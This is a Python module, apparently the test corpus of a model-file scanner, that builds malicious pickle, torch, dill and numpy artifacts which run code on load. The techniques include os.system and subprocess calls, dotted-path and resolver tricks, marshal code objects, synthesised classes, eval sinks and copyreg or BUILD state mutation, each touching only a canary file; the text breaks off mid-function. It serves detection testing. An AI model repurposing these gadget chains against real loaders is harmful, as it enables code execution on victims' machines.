"""The malicious test corpus: factories that build artifacts which run code when loaded.

Every sample is a `MaliciousSample` whose `build(out_dir, canary)` writes one artifact (and, for
trampolines, the second-stage file it points at) into `out_dir` and returns the artifact's path.
The only side effect any payload has when the artifact is loaded is creating the file `canary`;
`tests/test_corpus_executes.py` proves that each sample really does so with its `loader`, and
`tests/test_corpus_detection.py` checks that modelguard blocks it without executing it.

Loaders (how a victim opens the artifact; implemented in `tests/test_corpus_executes.py`):

* ``pickle``: ``pickle.load(open(path, "rb"))``
* ``pickle-multi``: ``pickle.load`` repeatedly on one file object until EOF (legacy torch and
  other readers of stacked pickles)
* ``pickle-bytesio``: ``pickle.load(io.BytesIO(data))`` (a file-like object without ``peek``,
  as torch uses for ``data.pkl``)
* ``pickle-member:A!B``: open the archive (zip or tar, any compression), read member ``A``, open
  that as an archive and read ``B``, ... then ``pickle.loads`` the last member
* ``torch``: ``torch.load(path, weights_only=False)``
* ``joblib``: ``joblib.load(path)``
* ``numpy``: ``numpy.load(path, allow_pickle=True)``
* ``numpy-npz``: ``numpy.load(path, allow_pickle=True)[key]`` for every key
* ``dill``: ``dill.load(open(path, "rb"))``
* ``pandas``: ``pandas.read_pickle(path)``

Techniques this corpus deliberately does NOT contain, because the loader refuses them here
(torch 2.13, CPython 3.11), are listed in `NOT_EXECUTABLE`.
"""

from __future__ import annotations

import io
import marshal
import os
import pickle
import shlex
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from types import CodeType
from typing import Any

from . import pickleasm as asm
from .pickleasm import Build, Call, Ext, G, Node, Raw, Seq, emit, program

__all__ = [
    "FAMILIES",
    "LOADERS",
    "NOT_EXECUTABLE",
    "SAMPLES",
    "VERDICT_ORDER",
    "Canary",
    "MaliciousSample",
    "sample_by_id",
]

VERDICT_ORDER = ("safe", "error", "suspicious", "dangerous")

LOADERS = (
    "pickle",
    "pickle-multi",
    "pickle-bytesio",
    "pickle-member",
    "torch",
    "joblib",
    "numpy",
    "numpy-npz",
    "dill",
    "pandas",
)

FAMILIES = (
    "direct",
    "dotted-path",
    "resolver",
    "code-object",
    "iteration",
    "class-synthesis",
    "eval-sink",
    "state-mutation",
    "nested-loader",
    "stream",
    "container",
)

# Broad rule sets: the hard requirement is that the sample is blocked; these name the rules
# that can legitimately be the reason.
CALL = frozenset({"MG101", "MG103", "MG104", "MG106"})
# Gadgets a denylist may not know: an unknown-global finding is a legitimate reason too.
GADGET = CALL | {"MG102"}

# Techniques from the research catalogue that were tried and do not execute here.
NOT_EXECUTABLE: dict[str, str] = {
    "torch-zip-flag-on-data-pkl": (
        "CVE-2025-1945 flag bits 0x1/0x20/0x40 set on data.pkl itself: torch's miniz reader "
        "refuses ('unsupported encryption'/'unsupported feature'); the corpus sets them on a "
        "sibling member instead, which torch ignores and zipfile chokes on"
    ),
    "frame-overreach-buffered-file": (
        "FRAME overreach does not execute with pickle.load on a buffered open() file: the C "
        "unpickler peeks ahead and then reads like pickletools; it executes on file objects "
        "without peek (io.BytesIO, unbuffered files), which is what torch uses for data.pkl"
    ),
    "nt-system": "nt.system only exists on Windows",
    "7z-wrapped-torch": "py7zr is not installed; nothing here loads 7z",
}


@dataclass(frozen=True)
class Canary:
    """The one file a payload may create, rendered for the payload's language."""

    path: str

    @property
    def shell(self) -> str:
        """A shell command that creates the canary."""
        return f"touch -- {shlex.quote(self.path)}"

    @property
    def argv(self) -> list[str]:
        """An argv list that creates the canary."""
        return ["touch", "--", self.path]

    @property
    def python(self) -> str:
        """A Python statement (also an expression) that creates the canary."""
        return f"open({self.path!r}, 'w').close()"

    def posix_path(self) -> Call:
        """A pickle expression for `pathlib.PosixPath(canary)`."""
        return Call(G("pathlib", "PosixPath"), (self.path,))


@dataclass(frozen=True)
class MaliciousSample:
    """One malicious artifact and how to prove it.

    Attributes:
        id: stable, unique id used as the pytest parameter id.
        family: one of `FAMILIES`.
        technique: one line on what the sample does and which catalogue entry it reproduces.
        build: `build(out_dir, canary_path) -> artifact path`; writes files only under out_dir.
        loader: how a victim loads it (see the module docstring).
        expect_rules: at least one of these rule ids must be among the file's findings.
        min_verdict: the scan's verdict must be at least this ("suspicious" or "dangerous").
    """

    id: str
    family: str
    technique: str
    build: Callable[[Path, Path], Path]
    loader: str
    expect_rules: frozenset[str]
    min_verdict: str


_REGISTRY: list[MaliciousSample] = []


def _register(
    id: str,
    family: str,
    technique: str,
    build: Callable[[Path, Path], Path],
    *,
    loader: str = "pickle",
    rules: frozenset[str] = CALL,
    verdict: str = "dangerous",
) -> None:
    assert family in FAMILIES, family
    assert loader.split(":", 1)[0] in LOADERS, loader
    assert verdict in ("suspicious", "dangerous"), verdict
    _REGISTRY.append(MaliciousSample(id, family, technique, build, loader, rules, verdict))


def _write(out_dir: Path, name: str, data: bytes) -> Path:
    path = out_dir / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _expr(
    id: str,
    family: str,
    technique: str,
    protocol: int,
    make: Callable[[Canary], Node],
    *,
    filename: str = "model.pkl",
    framed: bool = True,
    **kwargs: Any,
) -> None:
    """Register a sample that is one pickle of `make(canary)` at `protocol`."""

    def build(out_dir: Path, canary: Path) -> Path:
        return _write(
            out_dir, filename, program(make(Canary(str(canary))), protocol, framed=framed)
        )

    _register(id, family, technique, build, **kwargs)


def _raw(
    id: str,
    family: str,
    technique: str,
    make: Callable[[Canary], bytes],
    *,
    filename: str = "model.pkl",
    **kwargs: Any,
) -> None:
    """Register a sample whose bytes `make(canary)` assembles by hand."""

    def build(out_dir: Path, canary: Path) -> Path:
        return _write(out_dir, filename, make(Canary(str(canary))))

    _register(id, family, technique, build, **kwargs)


def _system(c: Canary, module: str = "os", name: str = "system") -> Call:
    return Call(G(module, name), (c.shell,))


def _mal(c: Canary, protocol: int = 2) -> bytes:
    """A plain `os.system(touch canary)` pickle, the inner payload of nested samples."""
    return program(_system(c), protocol)


def _codecs_bytes(data: bytes) -> Call:
    """Bytes at protocol 2 the way numpy/py2 pickles them: `_codecs.encode(str, 'latin1')`."""
    return Call(G("_codecs", "encode"), (data.decode("latin1"), "latin1"))


def _newobj(cls: Node, args: tuple[Node, ...], protocol: int = 4) -> Raw:
    return Raw(emit(cls, protocol) + emit(args, protocol) + asm.NEWOBJ)


def _newobj_ex(cls: Node, args: tuple[Node, ...], kwargs: dict[str, Node]) -> Raw:
    return Raw(emit(cls, 4) + emit(args, 4) + emit(kwargs, 4) + asm.NEWOBJ_EX)


def _synth(base: Node, dunder: str, hook: Node) -> Call:
    """`builtins.type('Model', (base,), {dunder: hook})`."""
    return Call(G("builtins", "type"), ("Model", (base,), {dunder: hook}))


def _code_of(c: Canary) -> CodeType:
    return compile(c.python, "<model>", "exec")


def _code_fields(code: CodeType) -> tuple[Any, ...]:
    # The 3.11 types.CodeType constructor signature, in order.
    return (
        code.co_argcount,
        code.co_posonlyargcount,
        code.co_kwonlyargcount,
        code.co_nlocals,
        code.co_stacksize,
        code.co_flags,
        code.co_code,
        code.co_consts,
        code.co_names,
        code.co_varnames,
        code.co_filename,
        code.co_name,
        code.co_qualname,
        code.co_firstlineno,
        code.co_linetable,
        code.co_exceptiontable,
        code.co_freevars,
        code.co_cellvars,
    )


class _ReduceTo:
    """An object that pickles as `fn(*args)`; used with real serialisers (torch, joblib, ...)."""

    def __init__(self, fn: Callable[..., Any], *args: Any) -> None:
        self.fn = fn
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.fn, self.args)


def _payload(c: Canary) -> _ReduceTo:
    return _ReduceTo(os.system, c.shell)


# ============================================================================================
# direct: the dangerous callable is named outright
# ============================================================================================

_expr("direct-os-system-p0", "direct", "GLOBAL os.system, protocol 0 (batch 1 A)", 0, _system)
_expr(
    "direct-posix-system-p2",
    "direct",
    "GLOBAL posix.system (what pickle writes for os.system), protocol 2",
    2,
    lambda c: _system(c, "posix"),
)
_expr(
    "direct-os-system-p4",
    "direct",
    "STACK_GLOBAL os.system in a FRAME, protocol 4 (batch 1 A2)",
    4,
    _system,
)
_expr(
    "direct-subprocess-check-call-p4",
    "direct",
    "subprocess.check_call with an argv list",
    4,
    lambda c: Call(G("subprocess", "check_call"), (c.argv,)),
)
_expr(
    "direct-subprocess-run-p1",
    "direct",
    "subprocess.run with an argv list, protocol 1",
    1,
    lambda c: Call(G("subprocess", "run"), (c.argv,)),
)
_expr(
    "direct-subprocess-getoutput-p3",
    "direct",
    "subprocess.getoutput(shell command)",
    3,
    lambda c: Call(G("subprocess", "getoutput"), (c.shell,)),
)
_expr(
    "direct-builtin-exec-p2",
    "direct",
    "__builtin__.exec (py2 name, mapped by fix_imports)",
    2,
    lambda c: Call(G("__builtin__", "exec"), (c.python,)),
)
_expr(
    "direct-builtins-eval-p4",
    "direct",
    "builtins.eval of an expression",
    4,
    lambda c: Call(G("builtins", "eval"), (c.python,)),
)
_expr(
    "direct-compile-exec-p3",
    "direct",
    "builtins.exec(builtins.compile(src))",
    3,
    lambda c: Call(
        G("builtins", "exec"), (Call(G("builtins", "compile"), (c.python, "<model>", "exec")),)
    ),
)
_expr(
    "direct-import-getattr-p0",
    "direct",
    "getattr(__builtin__.__import__('os'), 'system')(cmd), protocol 0 (batch 1 W)",
    0,
    lambda c: Call(
        Call(
            G("__builtin__", "getattr"), (Call(G("__builtin__", "__import__"), ("os",)), "system")
        ),
        (c.shell,),
    ),
)
_expr(
    "direct-builtins-open-p4",
    "direct",
    "builtins.open(path, 'w') as a file-write primitive (technique 14)",
    4,
    lambda c: Call(G("builtins", "open"), (c.path, "w")),
)
_expr(
    "direct-io-open-p2",
    "direct",
    "io.open(path, 'w') (technique 14)",
    2,
    lambda c: Call(G("io", "open"), (c.path, "w")),
    rules=GADGET,
    verdict="suspicious",
)
_expr(
    "direct-os-open-p2",
    "direct",
    "os.open(path, O_WRONLY|O_CREAT)",
    2,
    lambda c: Call(G("os", "open"), (c.path, os.O_WRONLY | os.O_CREAT)),
)


def _copyfile_self(out_dir: Path, canary: Path) -> Path:
    path = out_dir / "model.pkl"
    data = program(Call(G("shutil", "copyfile"), (str(path), str(canary))), 4)
    return _write(out_dir, "model.pkl", data)


_register(
    "direct-shutil-copyfile-p4",
    "direct",
    "shutil.copyfile(the artifact itself, target) (technique 14)",
    _copyfile_self,
)
_expr(
    "direct-pip-main-p2",
    "direct",
    "pip.main([... '--log', path, 'list']) (CVE-2025-1716 shape; offline, writes a log file)",
    2,
    lambda c: Call(
        G("pip", "main"),
        (
            [
                "--isolated",
                "--disable-pip-version-check",
                "--no-input",
                "-q",
                "--log",
                c.path,
                "list",
            ],
        ),
    ),
    rules=GADGET,
    verdict="suspicious",
)

# ============================================================================================
# dotted-path: protocol >= 4 resolves dotted names through innocent modules (techniques 24, 25)
# ============================================================================================

_expr(
    "dotted-pathlib-os-system-p4",
    "dotted-path",
    "STACK_GLOBAL ('pathlib', 'os.system') (batch 1 C)",
    4,
    lambda c: _system(c, "pathlib", "os.system"),
)
_expr(
    "dotted-random-private-os-p4",
    "dotted-path",
    "random._os.system, a module-private import alias (batch 2 AA)",
    4,
    lambda c: _system(c, "random", "_os.system"),
)
_expr(
    "dotted-tempfile-private-os-p5",
    "dotted-path",
    "tempfile._os.system, protocol 5",
    5,
    lambda c: _system(c, "tempfile", "_os.system"),
)
_expr(
    "dotted-argparse-private-os-p4",
    "dotted-path",
    "argparse._os.system",
    4,
    lambda c: _system(c, "argparse", "_os.system"),
)
_expr(
    "dotted-ctypes-private-os-p4",
    "dotted-path",
    "ctypes._os.system",
    4,
    lambda c: _system(c, "ctypes", "_os.system"),
)
_expr(
    "dotted-shutil-os-system-p4",
    "dotted-path",
    "shutil.os.system",
    4,
    lambda c: _system(c, "shutil", "os.system"),
)
_raw(
    "dotted-text-global-proto4",
    "dotted-path",
    "text GLOBAL 'pathlib\\nos.system' under a PROTO 4 header, no FRAME",
    lambda c: (
        asm.proto(4)
        + asm.global_("pathlib", "os.system")
        + emit((c.shell,), 4)
        + asm.REDUCE
        + asm.STOP
    ),
)
_expr(
    "dotted-path-touch-p4",
    "dotted-path",
    "pathlib.Path.touch (a method through a class path) on PosixPath(target)",
    4,
    lambda c: Call(G("pathlib", "Path.touch"), (c.posix_path(),)),
    rules=GADGET,
    verdict="suspicious",
)

# ============================================================================================
# resolver: fetch the callable by name at run time (techniques 9, 10, 12, 13)
# ============================================================================================


def _import(module: str) -> Call:
    return Call(G("importlib", "import_module"), (module,))


_expr(
    "resolver-importlib-getattr-p2",
    "resolver",
    "getattr(importlib.import_module('os'), 'system')(cmd)",
    2,
    lambda c: Call(Call(G("builtins", "getattr"), (_import("os"), "system")), (c.shell,)),
)
_expr(
    "resolver-pkgutil-colon-p4",
    "resolver",
    "pkgutil.resolve_name('os:system')(cmd) (batch 2 AH)",
    4,
    lambda c: Call(Call(G("pkgutil", "resolve_name"), ("os:system",)), (c.shell,)),
)
_expr(
    "resolver-pkgutil-dotted-p2",
    "resolver",
    "pkgutil.resolve_name('subprocess.check_call')(argv)",
    2,
    lambda c: Call(Call(G("pkgutil", "resolve_name"), ("subprocess.check_call",)), (c.argv,)),
)
_expr(
    "resolver-sys-modules-get-p4",
    "resolver",
    "getattr(sys.modules.get('os'), 'system') via the dotted global ('sys', 'modules.get')",
    4,
    lambda c: Call(
        Call(G("builtins", "getattr"), (Call(G("sys", "modules.get"), ("os",)), "system")),
        (c.shell,),
    ),
)
_expr(
    "resolver-itemgetter-sys-modules-p2",
    "resolver",
    "getattr(operator.itemgetter('os')(sys.modules), 'system')(cmd)",
    2,
    lambda c: Call(
        Call(
            G("builtins", "getattr"),
            (Call(Call(G("operator", "itemgetter"), ("os",)), (G("sys", "modules"),)), "system"),
        ),
        (c.shell,),
    ),
)
_expr(
    "resolver-attrgetter-import-module-p4",
    "resolver",
    "operator.attrgetter('system')(importlib.import_module('os'))(cmd)",
    4,
    lambda c: Call(
        Call(Call(G("operator", "attrgetter"), ("system",)), (_import("os"),)), (c.shell,)
    ),
)
_expr(
    "resolver-methodcaller-import-module-p2",
    "resolver",
    "_operator.methodcaller('system', cmd)(importlib.import_module('os')) (batch 1 F)",
    2,
    lambda c: Call(Call(G("_operator", "methodcaller"), ("system", c.shell)), (_import("os"),)),
)
_expr(
    "resolver-attrgetter-dunder-import-p3",
    "resolver",
    "_operator.attrgetter('system')(builtins.__import__('os'))(cmd) (batch 2 AM)",
    3,
    lambda c: Call(
        Call(
            Call(G("_operator", "attrgetter"), ("system",)),
            (Call(G("builtins", "__import__"), ("os",)),),
        ),
        (c.shell,),
    ),
)
_expr(
    "resolver-operator-call-p4",
    "resolver",
    "operator.call(pathlib.Path.touch, PosixPath(target)) (batch 2 AE)",
    4,
    lambda c: Call(G("operator", "call"), (G("pathlib", "Path.touch"), c.posix_path())),
    rules=GADGET,
    verdict="suspicious",
)
_expr(
    "resolver-getattr-chain-p2",
    "resolver",
    "getattr(getattr(__import__('pathlib'), 'os'), 'system')(cmd)",
    2,
    lambda c: Call(
        Call(
            G("builtins", "getattr"),
            (
                Call(
                    G("builtins", "getattr"),
                    (Call(G("builtins", "__import__"), ("pathlib",)), "os"),
                ),
                "system",
            ),
        ),
        (c.shell,),
    ),
)
_expr(
    "resolver-partial-p2",
    "resolver",
    "functools.partial(os.system, cmd)() (technique 13)",
    2,
    lambda c: Call(Call(G("functools", "partial"), (G("os", "system"), c.shell)), ()),
)
_expr(
    "resolver-functools-reduce-exec-p2",
    "resolver",
    "functools.reduce(builtins.exec, [{}], src) calls exec(src, {})",
    2,
    lambda c: Call(G("functools", "reduce"), (G("builtins", "exec"), [{}], c.python)),
)
_expr(
    "resolver-pydoc-locate-p4",
    "resolver",
    "pydoc.locate('os.system')(cmd) (technique 8)",
    4,
    lambda c: Call(Call(G("pydoc", "locate"), ("os.system",)), (c.shell,)),
    rules=GADGET,
    verdict="suspicious",
)

# ============================================================================================
# code-object: build a function from bytecode and call it (technique 11)
# ============================================================================================

_expr(
    "code-marshal-function-p3",
    "code-object",
    "types.FunctionType(marshal.loads(code), {})() (batch 1 G)",
    3,
    lambda c: Call(
        Call(
            G("types", "FunctionType"),
            (Call(G("marshal", "loads"), (marshal.dumps(_code_of(c)),)), {}),
        ),
        (),
    ),
)
_expr(
    "code-marshal-exec-p4",
    "code-object",
    "builtins.exec(marshal.loads(code))",
    4,
    lambda c: Call(
        G("builtins", "exec"), (Call(G("marshal", "loads"), (marshal.dumps(_code_of(c)),)),)
    ),
)
_expr(
    "code-codetype-exec-p4",
    "code-object",
    "builtins.exec(types.CodeType(<18 fields>))",
    4,
    lambda c: Call(
        G("builtins", "exec"), (Call(G("types", "CodeType"), _code_fields(_code_of(c))),)
    ),
)


def _codetype_p2(c: Canary) -> Node:
    fields = tuple(
        _codecs_bytes(f) if isinstance(f, bytes) else f for f in _code_fields(_code_of(c))
    )
    code = Call(G("types", "CodeType"), fields)
    return Call(Call(G("types", "FunctionType"), (code, {})), ())


_expr(
    "code-codetype-function-codecs-p2",
    "code-object",
    "FunctionType(CodeType(...), {})() with bytecode smuggled through _codecs.encode",
    2,
    _codetype_p2,
)
_expr(
    "code-function-newobj-p4",
    "code-object",
    "NEWOBJ types.FunctionType(marshal.loads(code), {}) then call",
    4,
    lambda c: Call(
        _newobj(
            G("types", "FunctionType"),
            (Call(G("marshal", "loads"), (marshal.dumps(_code_of(c)),)), {}),
        ),
        (),
    ),
)


def _cloudpickle_lambda(out_dir: Path, canary: Path) -> Path:
    import cloudpickle

    target = str(canary)
    # A closure is pickled by value (cloudpickle._make_function + CodeType); REDUCE calls it.
    fn = lambda: open(target, "w").close()  # noqa: E731
    return _write(out_dir, "model.pkl", cloudpickle.dumps(_ReduceTo(fn)))


def _dill_function(out_dir: Path, canary: Path) -> Path:
    import dill

    target = str(canary)

    def payload() -> None:
        open(target, "w").close()

    return _write(out_dir, "model.dill", dill.dumps(_ReduceTo(payload), recurse=True))


_register(
    "code-cloudpickle-lambda",
    "code-object",
    "real cloudpickle.dumps of a lambda that REDUCE calls on load (cloudpickle _make_function)",
    _cloudpickle_lambda,
)
_register(
    "code-dill-function",
    "code-object",
    "real dill.dumps of a closure that REDUCE calls on load (dill _create_function)",
    _dill_function,
    loader="dill",
)

# ============================================================================================
# iteration: a harmless-looking consumer forces a lazy call (technique 18)
# ============================================================================================

_expr(
    "iter-map-path-touch-p4",
    "iteration",
    "tuple(map(pathlib.Path.touch, [PosixPath(target)])) (batch 2 AC)",
    4,
    lambda c: Call(
        G("builtins", "tuple"),
        (Call(G("builtins", "map"), (G("pathlib", "Path.touch"), [c.posix_path()])),),
    ),
    rules=GADGET,
    verdict="suspicious",
)
_expr(
    "iter-filter-system-p2",
    "iteration",
    "list(filter(os.system, [cmd]))",
    2,
    lambda c: Call(
        G("builtins", "list"), (Call(G("builtins", "filter"), (G("os", "system"), [c.shell])),)
    ),
)
_expr(
    "iter-starmap-system-p2",
    "iteration",
    "tuple(itertools.starmap(os.system, [(cmd,)]))",
    2,
    lambda c: Call(
        G("builtins", "tuple"),
        (Call(G("itertools", "starmap"), (G("os", "system"), [(c.shell,)])),),
    ),
)
_expr(
    "iter-takewhile-system-p4",
    "iteration",
    "list(itertools.takewhile(os.system, [cmd]))",
    4,
    lambda c: Call(
        G("builtins", "list"), (Call(G("itertools", "takewhile"), (G("os", "system"), [c.shell])),)
    ),
)
_expr(
    "iter-dropwhile-deque-p4",
    "iteration",
    "collections.deque(itertools.dropwhile(builtins.exec, [src]))",
    4,
    lambda c: Call(
        G("collections", "deque"),
        (Call(G("itertools", "dropwhile"), (G("builtins", "exec"), [c.python])),),
    ),
)
_expr(
    "iter-filterfalse-set-p3",
    "iteration",
    "set(itertools.filterfalse(subprocess.call, [argv]))",
    3,
    lambda c: Call(
        G("builtins", "set"),
        (Call(G("itertools", "filterfalse"), (G("subprocess", "call"), [c.argv])),),
    ),
)
_expr(
    "iter-all-map-exec-p2",
    "iteration",
    "all(map(builtins.exec, [src]))",
    2,
    lambda c: Call(
        G("builtins", "all"), (Call(G("builtins", "map"), (G("builtins", "exec"), [c.python])),)
    ),
)
_expr(
    "iter-map-newobj-p4",
    "iteration",
    "tuple(NEWOBJ map(os.system, [cmd])): the map object is built by NEWOBJ, not REDUCE",
    4,
    lambda c: Call(
        G("builtins", "tuple"), (_newobj(G("builtins", "map"), (G("os", "system"), [c.shell])),)
    ),
)
_expr(
    "iter-sorted-key-newobj-ex-p4",
    "iteration",
    "NEWOBJ_EX functools.partial(sorted, [cmd], key=os.system)() (kwargs through NEWOBJ_EX)",
    4,
    lambda c: Call(
        _newobj_ex(
            G("functools", "partial"),
            (G("builtins", "sorted"), [c.shell]),
            {"key": G("os", "system")},
        ),
        (),
    ),
)

# ============================================================================================
# class-synthesis: builtins.type() with a dunder hook, triggered by a builtin (technique 19)
# ============================================================================================


def _instance(base: Node, dunder: str, c: Canary, protocol: int = 4) -> Call:
    hook: Node = G("pathlib", "Path.touch")
    if protocol < 4:  # no dotted globals below protocol 4
        hook = Call(G("builtins", "getattr"), (G("pathlib", "Path"), "touch"))
    return Call(_synth(base, dunder, hook), (c.path,))


_expr(
    "class-type-repr-path-p4",
    "class-synthesis",
    "repr(type('Model', (PosixPath,), {'__repr__': Path.touch})(target))",
    4,
    lambda c: Call(G("builtins", "repr"), (_instance(G("pathlib", "PosixPath"), "__repr__", c),)),
    rules=GADGET,
    verdict="suspicious",
)
_expr(
    "class-type-repr-str-p4",
    "class-synthesis",
    "repr(type('Model', (str,), {'__repr__': Path.touch})(target)) (batch 2 AB)",
    4,
    lambda c: Call(G("builtins", "repr"), (_instance(G("builtins", "str"), "__repr__", c),)),
    rules=GADGET,
    verdict="suspicious",
)
_expr(
    "class-type-hash-p4",
    "class-synthesis",
    "hash() of a synthesised PosixPath subclass whose __hash__ is Path.touch",
    4,
    lambda c: Call(G("builtins", "hash"), (_instance(G("pathlib", "PosixPath"), "__hash__", c),)),
    rules=GADGET,
    verdict="suspicious",
)
_expr(
    "class-type-len-p2",
    "class-synthesis",
    "len() of a synthesised str subclass whose __len__ is getattr(Path, 'touch'), protocol 2",
    2,
    lambda c: Call(G("builtins", "len"), (_instance(G("builtins", "str"), "__len__", c, 2),)),
    rules=GADGET,
    verdict="suspicious",
)
_expr(
    "class-type-del-finalizer-p4",
    "class-synthesis",
    "instance of a synthesised class with __del__ = Path.touch, dropped: runs when freed",
    4,
    lambda c: Seq((_instance(G("pathlib", "PosixPath"), "__del__", c),), {"weights": [1, 2]}),
    rules=GADGET,
    verdict="suspicious",
)

# ============================================================================================
# eval-sink: stdlib helpers that compile and run a string (techniques 3, 4, 16, 17)
# ============================================================================================

_expr(
    "eval-timeit-p2",
    "eval-sink",
    "timeit.timeit(src, 'pass', time.perf_counter, 1) (batch 2 AL)",
    2,
    lambda c: Call(G("timeit", "timeit"), (c.python, "pass", G("time", "perf_counter"), 1)),
)
_expr(
    "eval-cprofile-run-p2",
    "eval-sink",
    "cProfile.run(src) (batch 2 AJ)",
    2,
    lambda c: Call(G("cProfile", "run"), (c.python,)),
)
_expr(
    "eval-profile-run-p4",
    "eval-sink",
    "profile.run(src)",
    4,
    lambda c: Call(G("profile", "run"), (c.python,)),
    rules=GADGET,
    verdict="suspicious",
)
_expr(
    "eval-interactive-interpreter-p4",
    "eval-sink",
    "code.InteractiveInterpreter.runsource(code.InteractiveInterpreter(), src)",
    4,
    lambda c: Call(
        G("code", "InteractiveInterpreter.runsource"),
        (Call(G("code", "InteractiveInterpreter"), ()), c.python),
    ),
)
_expr(
    "eval-runpy-run-code-p2",
    "eval-sink",
    "runpy._run_code(src, {})",
    2,
    lambda c: Call(G("runpy", "_run_code"), (c.python, {})),
)
_expr(
    "eval-numpy-runstring-p2",
    "eval-sink",
    "numpy.testing._private.utils.runstring(src, {}) (technique 16)",
    2,
    lambda c: Call(G("numpy.testing._private.utils", "runstring"), (c.python, {})),
    rules=GADGET,
    verdict="suspicious",
)
_expr(
    "eval-trace-run-p4",
    "eval-sink",
    "trace.Trace.run(trace.Trace(0, 0), src)",
    4,
    lambda c: Call(G("trace", "Trace.run"), (Call(G("trace", "Trace"), (0, 0)), c.python)),
    rules=GADGET,
    verdict="suspicious",
)
_expr(
    "eval-dataclasses-create-fn-p4",
    "eval-sink",
    "dataclasses._create_fn('f', ['x=<src>'], ['pass']): the default is evaluated (batch 2 AG)",
    4,
    lambda c: Call(G("dataclasses", "_create_fn"), ("f", [f"x={c.python}"], ["pass"])),
    rules=GADGET,
    verdict="suspicious",
)
_expr(
    "eval-mailcap-findmatch-p2",
    "eval-sink",
    "mailcap.findmatch with an attacker 'test' shell command (batch 2 AF)",
    2,
    lambda c: Call(
        G("mailcap", "findmatch"), ({"x/y": [{"view": "true", "test": c.shell}]}, "x/y")
    ),
    rules=GADGET,
    verdict="suspicious",
)
_expr(
    "eval-typing-forwardref-p4",
    "eval-sink",
    "typing.ForwardRef._evaluate(ForwardRef(src), None, None, frozenset()) (technique 17)",
    4,
    lambda c: Call(
        G("typing", "ForwardRef._evaluate"),
        (
            Call(G("typing", "ForwardRef"), (c.python,)),
            None,
            None,
            Call(G("builtins", "frozenset"), ()),
        ),
    ),
    rules=GADGET,
    verdict="suspicious",
)

# ============================================================================================
# state-mutation: BUILD on modules/functions/classes, copyreg extensions (techniques 28, 33-35)
# ============================================================================================


def _copy_copy_memo(c: Canary) -> bytes:
    # modelscan #85 (batch 2 AK): BUILD stores strings as attributes of the copy.copy function,
    # dotted globals read them back into the memo, STACK_GLOBAL consumes runtime values.
    p = 4
    body = (
        emit(Build(G("copy", "copy"), {"mod": "os", "fn": "system"}), p)
        + asm.POP
        + emit(G("copy", "copy.mod"), p)
        + asm.MEMOIZE  # memo 0
        + asm.POP
        + emit(G("copy", "copy.fn"), p)
        + asm.MEMOIZE  # memo 1
        + asm.POP
        + asm.binget(0)
        + asm.binget(1)
        + asm.STACK_GLOBAL
        + emit((c.shell,), p)
        + asm.REDUCE
    )
    return asm.wrap(body, p)


_raw(
    "state-copy-copy-build-memo-p4",
    "state-mutation",
    "BUILD on copy.copy, dotted read-back, STACK_GLOBAL of memo values (modelscan #85, AK)",
    _copy_copy_memo,
    rules=CALL | {"MG102"},
)


def _ext(code: int) -> Callable[[Canary], Node]:
    def make(c: Canary) -> Node:
        register = Call(G("copyreg", "add_extension"), ("os", "system", code))
        return Seq((register,), Call(Ext(code), (c.shell,)))

    return make


_expr(
    "state-copyreg-ext1-p2",
    "state-mutation",
    "copyreg.add_extension('os', 'system', 0xF1) then EXT1 (batch 1 D)",
    2,
    _ext(0xF1),
    rules=CALL | {"MG105"},
)
_expr(
    "state-copyreg-ext2-p4",
    "state-mutation",
    "copyreg.add_extension('os', 'system', 0x1234) then EXT2",
    4,
    _ext(0x1234),
    rules=CALL | {"MG105"},
)
_expr(
    "state-copyreg-ext4-p2",
    "state-mutation",
    "copyreg.add_extension('os', 'system', 0x12345678) then EXT4",
    2,
    _ext(0x12345678),
    rules=CALL | {"MG105"},
)


def _cross_pickle_ext(c: Canary) -> bytes:
    # Technique 69 inside one file: pickle 1 registers the extension, pickle 2 holds only EXT.
    code = 0x5A5A
    first = program(Call(G("copyreg", "add_extension"), ("posix", "system", code)), 2)
    second = program(Call(Ext(code), (c.shell,)), 2)
    return first + second


_raw(
    "state-copyreg-cross-pickle-ext",
    "state-mutation",
    "pickle 1 registers a copyreg extension, pickle 2 calls it with a bare EXT2 (technique 69)",
    _cross_pickle_ext,
    loader="pickle-multi",
    rules=CALL | {"MG105"},
)
_expr(
    "state-numpy-builtins-p4",
    "state-mutation",
    "BUILD numpy.size with numpy.__builtins__, then STACK_GLOBAL numpy size.eval (S2, #330)",
    4,
    lambda c: Seq(
        (Build(G("numpy", "size"), G("numpy", "__builtins__")),),
        Call(G("numpy", "size.eval"), (c.python,)),
    ),
    rules=CALL | {"MG102"},
)
_expr(
    "state-module-attribute-overwrite-p4",
    "state-mutation",
    "BUILD on the module json.decoder sets c_scanstring = posix.system, then it is called",
    4,
    lambda c: Seq(
        (Build(G("json", "decoder"), {"c_scanstring": G("posix", "system")}),),
        Call(G("json.decoder", "c_scanstring"), (c.shell,)),
    ),
)
_expr(
    "state-class-slotstate-p4",
    "state-mutation",
    "BUILD (None, {'limit': os.system}) setattr()s onto fractions.Fraction; Fraction.limit(cmd)",
    4,
    lambda c: Seq(
        (Build(G("fractions", "Fraction"), (None, {"limit": G("os", "system")})),),
        Call(G("fractions", "Fraction.limit"), (c.shell,)),
    ),
)

# ============================================================================================
# nested-loader: the real payload sits in a second buffer or file (technique 60)
# ============================================================================================

_expr(
    "nested-pickle-loads-p3",
    "nested-loader",
    "pickle.loads(b'<inner malicious pickle>')",
    3,
    lambda c: Call(G("pickle", "loads"), (_mal(c),)),
)
_expr(
    "nested-pickle-loads-codecs-p2",
    "nested-loader",
    "_pickle.loads(_codecs.encode('<inner pickle>', 'latin1')): bytes hidden behind a call",
    2,
    lambda c: Call(G("_pickle", "loads"), (_codecs_bytes(_mal(c, 4)),)),
)
_expr(
    "nested-torch-load-from-bytes-p3",
    "nested-loader",
    "torch.storage._load_from_bytes(b'<inner pickle>') (batch 1 T)",
    3,
    lambda c: Call(G("torch.storage", "_load_from_bytes"), (_mal(c),)),
    rules=GADGET,
)
_expr(
    "nested-dill-loads-p4",
    "nested-loader",
    "dill.loads(b'<inner pickle>')",
    4,
    lambda c: Call(G("dill", "loads"), (_mal(c),)),
    rules=GADGET,
)


def _trampoline(
    make: Callable[[str], Node], *, protocol: int = 4, second_name: str = "weights.bin"
) -> Callable[[Path, Path], Path]:
    """Entry pickle `make(path_of_second_stage)`; the second stage is a raw malicious pickle."""

    def build(out_dir: Path, canary: Path) -> Path:
